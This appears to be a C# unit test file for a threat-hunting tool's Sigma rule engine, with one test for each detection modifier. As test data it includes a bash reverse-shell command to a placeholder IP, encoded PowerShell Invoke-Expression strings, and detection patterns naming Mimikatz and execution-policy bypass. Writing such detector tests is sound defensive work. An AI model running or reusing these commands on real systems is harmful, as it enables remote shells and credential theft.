using Exhunt.Readers;
using System.Text;
using static Exhunt.Tests.Sigma.SigmaTestKit;

namespace Exhunt.Tests.Sigma;

/// <summary>Each modifier of the Sigma v2 modifiers appendix against its specified meaning.</summary>
public class SigmaModifierTests
{
    [Fact]
    public void Plain_value_is_whole_value_case_insensitive()
    {
        var set = Rule("    sel:\n        Image: 'C:\\Windows\\System32\\cmd.exe'\n    condition: sel\n");
        Assert.True(Matches(set, Process(("Image", @"c:\windows\system32\CMD.EXE"))));
        Assert.False(Matches(set, Process(("Image", @"C:\Windows\System32\cmd.exe.bak"))));
        Assert.False(Matches(set, Process(("CommandLine", @"C:\Windows\System32\cmd.exe"))));
    }

    [Fact]
    public void Contains_startswith_endswith()
    {
        var set = Rule("    a:\n        CommandLine|contains: 'whoami'\n    b:\n        Image|endswith: '\\w3wp.exe'\n    c:\n        User|startswith: 'NT AUTHORITY'\n    condition: a and b and c\n");
        Assert.True(Matches(set, Process(("CommandLine", "cmd /c WHOAMI /all"), ("Image", @"C:\x\W3WP.EXE"), ("User", "nt authority\\system"))));
        Assert.False(Matches(set, Process(("CommandLine", "cmd /c WHOAMI /all"), ("Image", @"C:\x\W3WP.EXE2"), ("User", "nt authority\\system"))));
        Assert.False(Matches(set, Process(("CommandLine", "cmd /c WHOAMI /all"), ("Image", @"C:\x\W3WP.EXE"), ("User", "x nt authority"))));
    }

    [Fact]
    public void List_is_or_and_all_makes_it_and()
    {
        var any = Rule("    sel:\n        CommandLine|contains:\n            - 'alpha'\n            - 'beta'\n    condition: sel\n");
        var all = Rule("    sel:\n        CommandLine|contains|all:\n            - 'alpha'\n            - 'beta'\n    condition: sel\n");
        Assert.True(Matches(any, Process(("CommandLine", "x beta"))));
        Assert.False(Matches(all, Process(("CommandLine", "x beta"))));
        Assert.True(Matches(all, Process(("CommandLine", "beta then alpha"))));
    }

    [Fact]
    public void Wildcards_and_their_escapes()
    {
        var set = Rule("    sel:\n        CommandLine: 'a*b?c'\n    condition: sel\n");
        Assert.True(Matches(set, Process(("CommandLine", "aXYZbQc"))));
        Assert.True(Matches(set, Process(("CommandLine", "abQc"))));
        Assert.False(Matches(set, Process(("CommandLine", "abc"))));
        var escaped = Rule("    sel:\n        CommandLine: 'a\\*b\\?c'\n    condition: sel\n");
        Assert.True(Matches(escaped, Process(("CommandLine", "a*b?c"))));
        Assert.False(Matches(escaped, Process(("CommandLine", "aXb?c"))));
        // \\ is one literal backslash; a backslash before any other character is itself.
        var backslash = Rule("    sel:\n        Image: 'C:\\\\*\\x.exe'\n    condition: sel\n");
        Assert.True(Matches(backslash, Process(("Image", @"C:\dir\x.exe"))));
        Assert.False(Matches(backslash, Process(("Image", @"C:\dir\y.exe"))));
    }

    [Fact]
    public void Cased_is_case_sensitive()
    {
        var set = Rule("    sel:\n        CommandLine|contains|cased: 'Invoke-Mimikatz'\n    condition: sel\n");
        Assert.True(Matches(set, Process(("CommandLine", "x Invoke-Mimikatz y"))));
        Assert.False(Matches(set, Process(("CommandLine", "x invoke-mimikatz y"))));
    }

    [Fact]
    public void Regex_with_flags()
    {
        var cs = Rule("    sel:\n        CommandLine|re: '^cmd\\.exe /c [a-z]+$'\n    condition: sel\n");
        Assert.True(Matches(cs, Process(("CommandLine", "cmd.exe /c whoami"))));
        Assert.False(Matches(cs, Process(("CommandLine", "CMD.exe /c whoami"))));
        var ci = Rule("    sel:\n        CommandLine|re|i: '^cmd\\.exe'\n    condition: sel\n");
        Assert.True(Matches(ci, Process(("CommandLine", "CMD.EXE /c"))));
        var multi = Rule("    sel:\n        CommandLine|re|m: '^second$'\n    condition: sel\n");
        Assert.True(Matches(multi, Process(("CommandLine", "first\nsecond\nthird"))));
        var single = Rule("    sel:\n        CommandLine|re|s: 'first.second'\n    condition: sel\n");
        Assert.True(Matches(single, Process(("CommandLine", "first\nsecond"))));
        var plain = Rule("    sel:\n        CommandLine|re: 'first.second'\n    condition: sel\n");
        Assert.False(Matches(plain, Process(("CommandLine", "first\nsecond"))));
        // Lookarounds are outside NonBacktracking: still compiled (with a timeout).
        var look = Rule("    sel:\n        CommandLine|re: 'pass(?!word)'\n    condition: sel\n");
        Assert.True(Matches(look, Process(("CommandLine", "passphrase"))));
        Assert.False(Matches(look, Process(("CommandLine", "password"))));
    }

    [Fact]
    public void Base64_and_utf16_variants()
    {
        var b64 = Rule("    sel:\n        CommandLine|base64: 'http://'\n    condition: sel\n");
        Assert.True(Matches(b64, Process(("CommandLine", Convert.ToBase64String(Encoding.UTF8.GetBytes("http://"))))));
        var wide = Rule("    sel:\n        CommandLine|wide|base64offset|contains: 'Invoke-'\n    condition: sel\n");
        var le = Rule("    sel:\n        CommandLine|utf16le|base64offset|contains: 'Invoke-'\n    condition: sel\n");
        var be = Rule("    sel:\n        CommandLine|utf16be|base64offset|contains: 'Invoke-'\n    condition: sel\n");
        var bom = Rule("    sel:\n        CommandLine|utf16|base64|contains: 'iex'\n    condition: sel\n");
        foreach (var prefix in new[] { "", "a", "ab", "abc" })
        {
            var encodedLe = Convert.ToBase64String(Encoding.Unicode.GetBytes(prefix + "Invoke-Expression x"));
            var encodedBe = Convert.ToBase64String(Encoding.BigEndianUnicode.GetBytes(prefix + "Invoke-Expression x"));
            Assert.True(Matches(wide, Process(("CommandLine", "powershell -enc " + encodedLe))), prefix);
            Assert.True(Matches(le, Process(("CommandLine", "powershell -enc " + encodedLe))), prefix);
            Assert.True(Matches(be, Process(("CommandLine", "x " + encodedBe))), prefix);
            Assert.False(Matches(le, Process(("CommandLine", "x " + Convert.ToBase64String(Encoding.UTF8.GetBytes(prefix + "Invoke-Expression x"))))), prefix);
        }
        Assert.True(Matches(bom, Process(("CommandLine", "-e " + Convert.ToBase64String([0xFF, 0xFE, .. Encoding.Unicode.GetBytes("iex")])))));
    }

    [Fact]
    public void Base64offset_finds_the_value_at_every_byte_offset()
    {
        var set = Rule("    sel:\n        CommandLine|base64offset|contains: '/bin/bash'\n    condition: sel\n");
        for (var offset = 0; offset < 6; offset++)
        {
            var text = new string('x', offset) + "/bin/bash -i >& /dev/tcp/1.2.3.4/4444" + new string('y', offset % 3);
            Assert.True(Matches(set, Process(("CommandLine", Convert.ToBase64String(Encoding.UTF8.GetBytes(text))))), $"offset {offset}");
        }
        Assert.False(Matches(set, Process(("CommandLine", Convert.ToBase64String(Encoding.UTF8.GetBytes("/bin/zsh -i"))))));
    }

    [Fact]
    public void Windash_takes_every_dash_form()
    {
        var set = Rule("    sel:\n        CommandLine|windash|contains:\n            - ' -exec bypass'\n    condition: sel\n");
        foreach (var dash in new[] { "-", "/", "\u2013", "\u2014", "\u2015" })
            Assert.True(Matches(set, Process(("CommandLine", $"powershell {dash}exec bypass"))), dash);
        Assert.False(Matches(set, Process(("CommandLine", "powershell +exec bypass"))));
        // Two flags: every combination.
        var two = Rule("    sel:\n        CommandLine|windash|contains: '-a -b'\n    condition: sel\n");
        Assert.True(Matches(two, Process(("CommandLine", "x /a \u2014b"))));
    }

    [Fact]
    public void Cidr_v4_and_v6()
    {
        var set = Rule("    sel:\n        DestinationIp|cidr:\n            - '10.0.0.0/8'\n            - 'fe80::/10'\n            - '2001:db8:abcd::/48'\n    condition: sel\n",
            "    category: network_connection\n    product: windows\n");
        WinEvent Net(string ip) { var e = Process(("DestinationIp", ip)); e.EventId = 3; return e; }
        Assert.True(Matches(set, Net("10.20.30.40")));
        Assert.False(Matches(set, Net("11.0.0.1")));
        Assert.True(Matches(set, Net("fe80::1c2d:3e4f")));
        Assert.True(Matches(set, Net("2001:db8:abcd:12::1")));
        Assert.False(Matches(set, Net("2001:db8:abce::1")));
        Assert.False(Matches(set, Net("not an ip")));
    }

    [Fact]
    public void Numeric_comparisons()
    {
        var set = Rule("    a:\n        TerminalSessionId|gt: 0\n    b:\n        TerminalSessionId|lte: 2\n    condition: a and b\n");
        Assert.False(Matches(set, Process(("TerminalSessionId", "0"))));
        Assert.True(Matches(set, Process(("TerminalSessionId", "2"))));
        Assert.False(Matches(set, Process(("TerminalSessionId", "3"))));
        Assert.False(Matches(set, Process(("TerminalSessionId", "x"))));
        var lt = Rule("    a:\n        GrantedAccess|lt: 0x1000\n    b:\n        GrantedAccess|gte: 16\n    condition: a and b\n");
        Assert.True(Matches(lt, Process(("GrantedAccess", "0x10"))));
        Assert.False(Matches(lt, Process(("GrantedAccess", "0x1010"))));
    }

    [Fact]
    public void Exists_null_and_empty()
    {
        var exists = Rule("    sel:\n        OriginalFileName|exists: true\n    condition: sel\n");
        Assert.True(Matches(exists, Process(("OriginalFileName", ""))));
        Assert.False(Matches(exists, Process(("Image", "x"))));
        var absent = Rule("    sel:\n        OriginalFileName|exists: false\n    condition: sel\n");
        Assert.True(Matches(absent, Process(("Image", "x"))));
        var isNull = Rule("    sel:\n        OriginalFileName: null\n    condition: sel\n");
        Assert.True(Matches(isNull, Process(("Image", "x"))));
        Assert.True(Matches(isNull, Process(("OriginalFileName", ""))));
        Assert.False(Matches(isNull, Process(("OriginalFileName", "cmd.exe"))));
        var empty = Rule("    sel:\n        OriginalFileName: ''\n    condition: sel\n");
        Assert.True(Matches(empty, Process(("OriginalFileName", ""))));
        Assert.False(Matches(empty, Process(("OriginalFileName", "x"))));
    }

    [Fact]
    public void Neq_differs_from_the_value()
    {
        var set = Rule("    sel:\n        Image|endswith: '\\cmd.exe'\n        User|neq: 'SYSTEM'\n    condition: sel\n");
        Assert.True(Matches(set, Process(("Image", @"C:\cmd.exe"), ("User", "alice"))));
        Assert.False(Matches(set, Process(("Image", @"C:\cmd.exe"), ("User", "system"))));
        Assert.True(Matches(set, Process(("Image", @"C:\cmd.exe"))));
    }

    [Fact]
    public void Fieldref_compares_two_fields()
    {
        var set = Rule("    sel:\n        ParentImage|fieldref: Image\n    condition: sel\n");
        Assert.True(Matches(set, Process(("Image", @"C:\a.exe"), ("ParentImage", @"c:\A.EXE"))));
        Assert.False(Matches(set, Process(("Image", @"C:\a.exe"), ("ParentImage", @"C:\b.exe"))));
        var ends = Rule("    sel:\n        CommandLine|fieldref|endswith: Image\n    condition: sel\n");
        Assert.True(Matches(ends, Process(("Image", "a.exe"), ("CommandLine", "run a.exe"))));
    }

    [Fact]
    public void Expand_uses_configured_placeholders_and_rejects_unknown_ones()
    {
        var yaml = "title: t\nid: x1\nlogsource:\n    category: process_creation\n    product: windows\ndetection:\n    sel:\n        User|expand: '%Admins%'\n    condition: sel\n";
        var options = new Exhunt.Detection.Sigma.SigmaOptions();
        options.Placeholders["Admins"] = ["CONTOSO\\adm1", "CONTOSO\\adm2"];
        var set = Exhunt.Detection.Sigma.SigmaLoader.LoadText(yaml, options: options);
        Assert.True(Matches(set, Process(("User", "contoso\\ADM2"))));
        Assert.False(Matches(set, Process(("User", "contoso\\adm3"))));
        var none = Exhunt.Detection.Sigma.SigmaLoader.LoadText(yaml);
        Assert.Contains("%Admins%", Assert.Single(none.Report.Rejected).Reason);
    }

    [Fact]
    public void Unknown_modifier_is_rejected_with_the_reason()
    {
        Assert.Contains("unsupported modifier 'frobnicate'", Reject("    sel:\n        Image|frobnicate: x\n    condition: sel\n"));
    }
}
